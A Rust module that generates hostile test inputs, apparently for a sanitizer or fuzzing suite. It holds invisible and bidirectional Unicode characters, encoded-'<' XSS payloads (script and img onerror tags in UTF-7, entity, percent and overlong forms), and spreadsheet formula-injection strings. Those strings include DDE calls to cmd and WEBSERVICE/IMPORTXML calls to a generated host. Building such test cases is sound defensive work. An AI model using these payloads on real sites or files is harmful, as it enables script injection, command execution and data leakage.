//! Signs that nobody sees or that turn letters round, other spellings of the sign that opens a tag, and formulas.

use super::{Family, Maker};

/// What the page makes visible: controls, marks of direction and of no width, joiners, tags.
pub const SIGNS: [char; 40] = [
    '\u{1}',
    '\u{7}',
    '\u{8}',
    '\u{b}',
    '\u{e}',
    '\u{1b}',
    '\u{7f}',
    '\u{80}',
    '\u{8d}',
    '\u{9f}',
    '\u{ad}',
    '\u{61c}',
    '\u{180e}',
    '\u{200b}',
    '\u{200c}',
    '\u{200d}',
    '\u{200e}',
    '\u{200f}',
    '\u{202a}',
    '\u{202b}',
    '\u{202c}',
    '\u{202d}',
    '\u{202e}',
    '\u{2060}',
    '\u{2061}',
    '\u{2062}',
    '\u{2063}',
    '\u{2064}',
    '\u{2066}',
    '\u{2067}',
    '\u{2068}',
    '\u{2069}',
    '\u{206a}',
    '\u{206f}',
    '\u{feff}',
    '\u{fff9}',
    '\u{fffa}',
    '\u{fffb}',
    '\u{e0001}',
    '\u{e007f}',
];

/// What ends a line unseen, and a letter of tags.
const FURTHER: &[char] = &['\u{2028}', '\u{2029}', '\u{e0041}'];

/// The sign that opens a tag, and the one that closes it, as other encodings and escapes have them.
const SPELLINGS: &[(&str, &str)] = &[
    ("+ADw-", "+AD4-"),
    ("&lt;", "&gt;"),
    ("&lt", "&gt"),
    ("&LT;", "&GT;"),
    ("&#60;", "&#62;"),
    ("&#0000060", "&#0000062"),
    ("&#x3c;", "&#x3E;"),
    ("&amp;lt;", "&amp;gt;"),
    ("&amp;amp;lt;", "&amp;amp;gt;"),
    ("%3C", "%3E"),
    ("%253C", "%253E"),
    ("\\x3c", "\\x3e"),
    ("\\u003c", "\\u003e"),
    ("\\74", "\\76"),
    ("\u{ff1c}", "\u{ff1e}"),
    ("\u{2039}", "\u{203a}"),
    ("\u{fe64}", "\u{fe65}"),
    // An overlong `<`, and what of it is left when each byte is taken for a letter.
    ("\u{c0}\u{bc}", "\u{c0}\u{be}"),
    ("\u{e0}\u{80}\u{bc}", "\u{e0}\u{80}\u{be}"),
    // What of another set of letters is `<` once its upper bit is lost.
    ("\u{bc}", "\u{be}"),
    ("\u{013c}", "\u{013e}"),
    ("<\u{feff}", ">"),
    ("<\u{200b}", ">"),
];

/// What a spreadsheet takes for a formula.
const FORMULAS: &[&str] = &[
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"@\",\"open\")",
    "=IMPORTXML(\"@\",\"//a\")",
    "=WEBSERVICE(\"@\")",
    "=IMAGE(\"@\")",
    "\t=1+1",
    "  =1+1",
    "\"=1+1",
    "\",=1+1,\"",
    "\u{ff1d}1+1",
    "\u{ff0b}1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "%=1+1",
    ";=1+1",
    "|=1+1",
    "=-1+1",
    "'=1+1",
];

pub(super) fn make(maker: &mut Maker) {
    for (at, sign) in SIGNS.iter().chain(FURTHER).enumerate() {
        maker.add(Family::Sign, format!("the Embassy{sign} in S{sign}ECRET//NOF{sign}ORN words"));
        maker.add(Family::Sign, format!("{sign}(S//NF){sign} UNCLASSIFIED {sign}(U)"));
        // A payload with the sign in the middle of its tag.
        maker.add(
            Family::Sign,
            format!("<im{sign}g src=x onerror={}><img{sign} src=x onerror={}>", maker.code(at), maker.code(0)),
        );
    }
    for (at, (open, close)) in SPELLINGS.iter().enumerate() {
        maker.add(Family::Encoded, format!("{open}script{close}{}{open}/script{close}", maker.code(at)));
        maker.add(Family::Encoded, format!("{open}img src=x onerror={}{close}", maker.code(at)));
    }
    for formula in FORMULAS {
        maker.add(Family::Formula, formula.replace("\"@\"", &format!("\"{}\"", maker.place())));
    }
}
